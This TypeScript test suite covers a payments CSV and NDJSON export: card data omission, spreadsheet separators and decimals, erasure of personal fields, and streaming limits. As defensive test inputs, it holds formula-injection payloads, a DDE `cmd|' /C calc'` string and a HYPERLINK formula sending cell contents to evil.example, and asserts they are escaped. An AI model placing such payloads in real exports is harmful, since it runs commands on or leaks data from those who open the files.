// Payments as CSV and NDJSON: every value whole, no formula, no card, and a reader that stops is not read ahead of.
import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Payment } from '../../src/payments/payment.ts';
import { EXPORT_COLUMNS, exportPayments, exportStream } from '../../src/review/export.ts';
import type { SearchFilter } from '../../src/review/search-queries.ts';
import type { Database } from '../../src/store/database.ts';
import { addPerson, type Person, post } from '../support/admin.ts';
import { readCsv, readCsvRows } from '../support/csv.ts';
import { open, send, TYPED } from '../support/customer.ts';
import { createIn, KEY, sharedHarness } from '../support/harness.ts';
import { decide, erase, note, record, submit } from '../support/payments.ts';
import { addReviewers, BEN } from '../support/reviewers.ts';
import { createAt, SHOP } from '../support/shop.ts';

/** What spreadsheets take for the beginning of a formula. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
/** What they may drop from in front of one. */
const UNSEEN = [' ', '  ', '\u00a0', '\u200b', '\ufeff', '\u2060', '\u3000', ' \ufeff\u200b'];

describe('exports of payments', () => {
  const harness = sharedHarness('sqlite', { configuration: SHOP });
  let ana: Person;
  before(async () => {
    await addReviewers(harness.service.journal);
    ana = await addPerson(harness, 'administrator', 'Ana');
  });

  async function exported(
    format: 'csv' | 'ndjson',
    filter: SearchFilter = {},
    separator?: 'comma' | 'semicolon' | 'tab',
  ): Promise<string> {
    let text = '';
    const options = { format, filter, separator, now: harness.clock.now(), timeZone: 'UTC' };
    for await (const part of exportPayments(harness.service.database, options)) text += part;
    return text;
  }

  test('No payments: a header row alone, and no line.', async () => {
    assert.deepEqual(readCsv(await exported('csv')), [[...EXPORT_COLUMNS]]);
    assert.equal(await exported('ndjson'), '');
  });

  test('Both formats tell the same: amounts and times as text, who paid from which account, nothing of a card.', async () => {
    const { id } = await createAt(harness, 'transfer', { merchant_reference: 'A, "B"', amount: 1234.5 });
    await send(await open(harness, id), TYPED.transfer);
    const card = await createAt(harness, 'card');
    await send(await open(harness, card.id), TYPED.card);
    const rows = readCsvRows(await exported('csv'));
    const objects = (await exported('ndjson'))
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    assert.deepEqual(
      rows.map(({ id }) => id),
      [card.id, id],
    );
    const [, row] = rows;
    assert.equal(row!.amount, '1234.50');
    assert.equal(row!.merchant_reference, 'A, "B"');
    assert.equal(row!.status, 'requires_review');
    assert.equal(row!.payer_account, TYPED.transfer['transfer-iban']);
    assert.match(row!.submitted_at!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00$/);
    assert.equal(row!.decided_at, '');
    for (const [i, object] of objects.entries()) {
      assert.deepEqual(Object.keys(object), [...EXPORT_COLUMNS]);
      for (const name of EXPORT_COLUMNS) {
        const cell = rows[i]![name]!;
        assert.ok(cell === (object[name] ?? '') || cell === `'${object[name]}`, name);
      }
    }
    assert.doesNotMatch(JSON.stringify([rows, objects]), /4242/);
  });

  test('No cell begins as a formula does, and ids and amounts stay themselves.', async () => {
    const made: string[] = [];
    for (const start of STARTS.filter((one) => one >= ' ')) {
      const text = `${start}cmd|' /C calc'!A0`;
      const { id } = await harness.create({ merchant_reference: text, customer: { name: text } });
      made.push(id);
    }
    const hidden = UNSEEN.flatMap((unseen) =>
      ['=', '+', '-', '@', '＝'].map((start) => `${unseen}${start}1+1`),
    );
    for (const description of hidden) made.push((await harness.create({ description })).id);
    // Nothing that could be a formula: it stays as it is.
    const harmless = ['\u00a0Socks', "'=1", '1-1', ' (-1)'];
    for (const description of harmless) made.push((await harness.create({ description })).id);
    const semicolon = ';=HYPERLINK("http://evil.example/?"&A1);';
    made.push((await harness.create({ description: semicolon })).id);
    // Text over several lines may begin with a tab or a line break.
    for (const start of ['\t', '\n']) made.push((await harness.create({ description: `${start}=1+1` })).id);
    const records = readCsv(await exported('csv'));
    for (const record of records)
      for (const cell of record) assert.ok(!STARTS.some((start) => cell.startsWith(start)), cell);
    const rows = readCsvRows(await exported('csv', { merchant_id: 'mer_development' }));
    assert.deepEqual(rows.map(({ id }) => id).sort(), made.sort());
    for (const row of rows) assert.equal(row.amount, '49.90');
    assert.ok(rows.some(({ merchant_reference }) => merchant_reference === "'=cmd|' /C calc'!A0"));
    const told = rows.map(({ description }) => description);
    for (const text of hidden) assert.ok(told.includes(`'${text}`), JSON.stringify(text));
    assert.ok(told.includes(semicolon.replace(';=', ";'=")), 'a cell of its own in half of Europe');
    for (const text of harmless) assert.ok(told.includes(text), JSON.stringify(text));
  });

  test('A spreadsheet gets a byte order mark, its own separator and its own decimals, and no formula.', async () => {
    const { id } = await harness.create({ amount: 1234.5, description: 'a;b', customer: { name: '=1+1' } });
    const csv = (separator?: 'comma' | 'semicolon' | 'tab') => exported('csv', { ids: [id] }, separator);
    assert.match(await csv(), /^id,created_at,/);
    assert.match(await csv('comma'), /^\ufeffid,created_at,.*\r\npay_.*,1234\.50,USD,.*,'=1\+1,/s);
    assert.match(
      await csv('semicolon'),
      /^\ufeffid;created_at;.*\r\npay_.*;1234,50;USD;.*;"a;b";.*;'=1\+1;/s,
    );
    assert.match(await csv('tab'), /^\ufeffid\tcreated_at\t.*\r\npay_.*\t1234\.50\tUSD\t.*\t'=1\+1\t/s);
  });

  test('A spreadsheet keeps text that looks like a number or a day; a program gets it as it is.', async () => {
    const changed =
      '000123|12345678901234567890|123456789012|3-4|1E5|01701234567|+49 170 1234|-7|1.042|1,5|1’000|1 000|12:30|5:30 PM|50%|1/2|€ 5|' +
      '5 kr|MAR 3|SEPT1|3-Mar|3. Mai|3 mai 2026|3 de mayo|3 мая|2026年11月20日|下午5:30|2026-11-20|20.11.|１２３４|٣٤|½|5"|true|WAHR|vrai|' +
      'ЛОЖЬ|ＴＲＵＥ|#N/A|#NV|#¡REF!';
    const kept = 'order-1|1042|0|0x1F|1F|B 12345|Marked|#17 of 20|Trueman|1;5=2;=3';
    const made = new Map<string, string>();
    for (const reference of `${changed}|${kept}`.split('|'))
      made.set((await harness.create({ merchant_reference: reference })).id, reference);
    const ids = [...made.keys()];
    for (const separator of ['comma', 'semicolon', 'tab'] as const) {
      const lines = (await exported('csv', { ids }, separator)).split('\r\n');
      for (const [id, reference] of made) {
        const line = lines.find((one) => one.startsWith(id))!;
        const formula = `"=""${reference.replaceAll('"', '""""')}"""`;
        assert.equal(line.includes(formula), changed.split('|').includes(reference), `${separator} ${line}`);
        // Its own days are days to a spreadsheet, too.
        assert.match(line, /[,;\t]\d{4}-\d\d-\d\d[,;\t]/);
      }
    }
    for (const { id, merchant_reference } of readCsvRows(await exported('csv', { ids }))) {
      const apostrophe = /^'[+-]/.test(merchant_reference!) ? "'" : '';
      assert.equal(merchant_reference, apostrophe + made.get(id!)!.replace(';=', ";'="));
    }
  });

  test('Who decided, the bank reference and the notes stand in it, until the payment is erased.', async () => {
    const rowOf = async (id: string) => readCsvRows(await exported('csv', { ids: [id] }))[0]!;
    const { id } = await harness.create();
    await submit(harness, id);
    await note(harness, id, 'Seen', BEN);
    assert.equal((await rowOf(id)).decided_by, '');
    await post(harness, ana, `/admin/payments/${id}/approve`, { note: '+ok', bank_reference: 'B-7' });
    const row = await rowOf(id);
    assert.equal(row.decided_by, 'Ana');
    assert.equal(row.bank_reference, 'B-7');
    assert.equal(row.note, 'Seen\n+ok');
    await erase(harness, id);
    const erased = await rowOf(id);
    assert.deepEqual([erased.decided_by, erased.bank_reference, erased.note], ['', '', '']);
  });

  test('Money that was recorded stands in it with its day, as a number to spreadsheets, until the payment is erased.', async () => {
    const { id } = await harness.create({ amount: 50 });
    const bare = await harness.create();
    const csv = (separator?: 'semicolon') => exported('csv', { ids: [id] }, separator);
    await record(harness, id, 1234_50, null);
    const [row] = readCsvRows(await csv());
    assert.deepEqual([row!.received_amount, row!.received_on], ['1234.50', '2026-11-20']);
    assert.match(await csv('semicolon'), /;1234,50;2026-11-20;/);
    await decide(harness, id);
    await erase(harness, id);
    for (const one of [id, bare.id]) {
      const [empty] = readCsvRows(await exported('csv', { ids: [one] }));
      assert.deepEqual([empty!.received_amount, empty!.received_on], ['', '']);
    }
  });

  test('How a payment was paid is told after its personal data is erased, and of one from before there was a column.', async () => {
    const rowOf = async (id: string) => readCsvRows(await exported('csv', { ids: [id] }))[0]!;
    const { id } = await harness.create();
    await submit(harness, id);
    await decide(harness, id);
    await erase(harness, id);
    const erased = await rowOf(id);
    assert.equal(erased.method, 'details');
    assert.equal(erased.payer_name, '');
    const { database } = harness.service;
    const old: Pick<Database, 'query'> = {
      query: async <R>() => {
        const [row] = await database.query<Payment>('select * from payments where id = ?', id);
        return [{ ...row, method: null, submission: '{"method":"bank_transfer"}' }] as R[];
      },
    };
    const options = { format: 'csv', filter: {}, now: harness.clock.now(), timeZone: 'UTC' } as const;
    let text = '';
    for await (const part of exportPayments(old, options)) text += part;
    assert.equal(readCsvRows(text)[0]!.method, 'bank_transfer');
  });

  test('A reader that stops reading is not read ahead of by more than a few pages.', async () => {
    const MANY = 2200;
    await createIn(harness.service.journal, harness, MANY, KEY, { merchant_reference: 'MANY' });
    let pages = 0;
    const { database } = harness.service;
    const counted: Pick<Database, 'query'> = {
      query(sql, ...values) {
        if (sql.includes(' as branch0')) pages++;
        return database.query(sql, ...values);
      },
    };
    const stream = exportStream(counted, {
      format: 'ndjson',
      filter: { reference: 'MANY' },
      now: harness.clock.now(),
      timeZone: 'UTC',
    });
    const parts = stream[Symbol.asyncIterator]();
    await parts.next();
    await sleep(100);
    assert.ok(pages <= 3, `${pages} pages were read for one`);
    let lines = 0;
    for await (const part of { [Symbol.asyncIterator]: () => parts })
      lines += String(part).split('\n').length - 1;
    assert.equal(lines, MANY - 500);
  });
});
